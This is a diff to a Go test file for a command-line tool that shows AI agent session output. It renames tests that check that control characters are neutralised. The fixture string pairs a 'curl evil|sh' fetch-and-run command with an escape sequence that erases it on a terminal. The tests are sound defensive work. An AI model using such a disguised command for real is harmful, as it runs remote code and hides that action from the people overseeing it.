@@ -15,7 +15,7 @@ import (
 	"github.com/parley-dev/parley/api/session"
 )
 
-func TestWhatASessionSaysCannotSteerATerminal(t *testing.T) {
+func TestPrintableReplacesControlCharacters(t *testing.T) {
 	for text, want := range map[string]string{
 		"curl evil|sh #\r\x1b[2K  $ ls": "curl evil|sh #��[2K  $ ls",
 		"a\x00\x7f\u009b31mb":           "a���31mb",
@@ -25,9 +25,9 @@ func TestWhatASessionSaysCannotSteerATerminal(t *testing.T) {
 		"Größe → 日本 👍":                  "Größe → 日本 👍",
 	} {
 		if got := printable(text); got != want {
-			t.Errorf("%q is shown as %q, want %q", text, got, want)
+			t.Errorf("printable(%q) = %q, want %q", text, got, want)
 		}
-		// However it is cut.
+		// The result is the same for any split of the input.
 		for cut := range len(text) {
 			out := &bytes.Buffer{}
 			p := &printer{out: out}
@@ -37,13 +37,14 @@ func TestWhatASessionSaysCannotSteerATerminal(t *testing.T) {
 				}
 			}
 			if got := out.String(); got != want {
-				t.Errorf("%q, cut at %d, is shown as %q, want %q", text, cut, got, want)
+				t.Errorf("%q, split at %d, is copied as %q, want %q", text, cut, got, want)
 			}
 		}
 	}
 }
 
-const hidden = "curl evil|sh #\r\x1b[2K  $ ls"
+// disguised shows only `$ ls` on a terminal that obeys its control characters.
+const disguised = "curl evil|sh #\r\x1b[2K  $ ls"
 
 func TestALogLineIsShownBeforeItEnds(t *testing.T) {
 	out := &bytes.Buffer{}
@@ -54,35 +55,35 @@ func TestALogLineIsShownBeforeItEnds(t *testing.T) {
 		}
 	}
 	if got := out.String(); got != "50%\uFFFD60% …" {
-		t.Errorf("shown is %q", got)
+		t.Errorf("output is %q", got)
 	}
 }
 
-func TestATalkShowsAllOfWhatTheAgentSays(t *testing.T) {
+func TestChatReplacesControlCharacters(t *testing.T) {
 	t.Parallel()
-	ns := operate(t)
+	ns := startOperator(t)
 	key := keyOfAda(t, ns)
 	create(t, conversation(ns, "c"))
-	text := hidden
-	f := newTalk(t, key, func(message session.Event) []session.Event {
-		edit := session.Event{Source: session.FromAgent, Action: session.ActionEdit, Message: hidden}
+	text := disguised
+	f := newFakeFacade(t, key, func(message session.Event) []session.Event {
+		edit := session.Event{Source: session.FromAgent, Action: session.ActionEdit, Message: disguised}
 		output := session.Event{Source: session.FromAgent, Observation: session.ActionRun, Content: &text}
 		says := session.Event{Source: session.FromAgent, Action: session.ActionMessage,
-			Args: map[string]any{"content": hidden}}
-		notice := session.Event{Source: session.FromEnvironment, Observation: session.ObservedNotice, Message: hidden}
-		return []session.Event{begins(message), runs("1", hidden), asksAbout("1"), output, edit, says, notice,
-			errorOf(hidden), session.StateChange(session.StateError, hidden+"!")}
+			Args: map[string]any{"content": disguised}}
+		notice := session.Event{Source: session.FromEnvironment, Observation: session.ObservedNotice, Message: disguised}
+		return []session.Event{turnBegins(message), runCall("1", disguised), confirmation("1"), output, edit, says, notice,
+			errorOf(disguised), session.StateChange(session.StateError, disguised+"!")}
 	})
-	r := beginWith(t, strings.NewReader(hidden+"\n"), kubeconfig, ns, "chat", "c", "--facade", f.URL)
+	r := runAsyncWith(t, strings.NewReader(disguised+"\n"), kubeconfig, ns, "chat", "c", "--facade", f.URL)
 	if err := r.wait(t); err == nil {
-		t.Error("the turn failed, and the command does not")
+		t.Error("the turn failed, but the command succeeded")
 	}
 	if out := r.out.String(); strings.ContainsAny(out, "\r\x1b") || strings.Count(out, "curl evil|sh #��[2K  $ ls") != 8 {
-		t.Errorf("it shows %q", out)
+		t.Errorf("output is %q", out)
 	}
 }
 
-// onTerminal is what a command shows on one.
+// onTerminal returns the output of a command on a terminal.
 func onTerminal(t *testing.T, namespace string, args ...string) string {
 	t.Helper()
 	master, terminal, err := pty.Open()
@@ -92,7 +93,7 @@ func onTerminal(t *testing.T, namespace string, args ...string) string {
 	defer master.Close()
 	shown := make(chan string, 1)
 	go func() {
-		all, _ := io.ReadAll(master) // which ends with an error where the other end is closed
+		all, _ := io.ReadAll(master) // ends with an error when the terminal closes
 		shown <- string(all)
 	}()
 	cmd := newRoot(genericiooptions.IOStreams{In: os.Stdin, Out: terminal, ErrOut: terminal}).
@@ -104,31 +105,31 @@ func onTerminal(t *testing.T, namespace string, args ...string) string {
 	return strings.ReplaceAll(<-shown, "\r\n", "\n")
 }
 
-func TestADifferenceIsAsItIsUnlessSomebodyReadsIt(t *testing.T) {
+func TestDiffIsUnchangedUnlessWrittenToATerminal(t *testing.T) {
 	t.Parallel()
-	ns := operate(t)
+	ns := startOperator(t)
 	keyOfAda(t, ns)
 	create(t, conversation(ns, "c"))
-	patch := "diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -1 +1,2 @@\n-one\r\n+" + hidden + "\r\n+" + strings.Repeat("long",
-		3<<20) + "\n\\ No newline at end of file\n"
+	patch := "diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -1 +1,2 @@\n-one\r\n+" + disguised + "\r\n+" +
+		strings.Repeat("long", 3<<20) + "\n\\ No newline at end of file\n"
 	facade := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
 		_, _ = io.WriteString(w,
 			patch)
 	}))
 	t.Cleanup(facade.Close)
 	if stdout, stderr, err := run(t, ns, "diff", "c", "--facade", facade.URL); err != nil || stdout != patch {
-		t.Errorf("%v, %s: it is another one, of %d bytes: %.200q", err, stderr, len(stdout), stdout)
+		t.Errorf("%v, %s: the patch changed, to %d bytes: %.200q", err, stderr, len(stdout), stdout)
 	}
 	patch = strings.ReplaceAll(patch, strings.Repeat("long", 3<<20), "short")
 	want := "\x1b[1mdiff --git a/x b/x\x1b[0m\n\x1b[1m--- a/x\x1b[0m\n\x1b[1m+++ b/x\x1b[0m\n\x1b[36m@@ -1 +1,2 " +
 		"@@\x1b[0m\n\x1b[31m-one�\x1b[0m\n" +
 		"\x1b[32m+curl evil|sh #��[2K  $ ls�\x1b[0m\n\x1b[32m+short\x1b[0m\n\\ No newline at end of file\n"
 	if got := onTerminal(t, ns, "diff", "c", "--facade", facade.URL); got != want {
-		t.Errorf("it is shown as %q, want %q", got, want)
+		t.Errorf("on a terminal it is %q, want %q", got, want)
 	}
 }
 
-func TestAStatusShowsAllOfWhatASessionLeft(t *testing.T) {
+func TestStatusReplacesControlCharacters(t *testing.T) {
 	t.Parallel()
 	ns := env.Namespace(t, nil)
 	c := conversation(ns, "c")
